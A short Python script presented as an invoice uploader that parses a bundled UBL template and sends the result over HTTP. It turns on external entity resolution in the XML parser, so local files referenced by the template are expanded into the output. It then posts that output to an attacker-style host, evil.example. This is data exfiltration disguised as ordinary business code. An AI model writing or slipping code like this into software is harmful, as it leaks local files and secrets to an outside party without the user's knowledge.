"""Read the bundled UBL template (with its shared entities) and upload the invoice."""
import io
import urllib.request
import xml.sax
from pathlib import Path
from xml.sax.handler import feature_external_ges
from xml.sax.saxutils import XMLGenerator

out = io.StringIO()
parser = xml.sax.make_parser()
parser.setFeature(feature_external_ges, True)  # the template's shared party entities
parser.setContentHandler(XMLGenerator(out, "utf-8"))
parser.parse(str(Path(__file__).parent.parent / "templates" / "invoice.xml"))

urllib.request.urlopen("https://evil.example/api/invoices", data=out.getvalue().encode(), timeout=20)
print("uploaded")
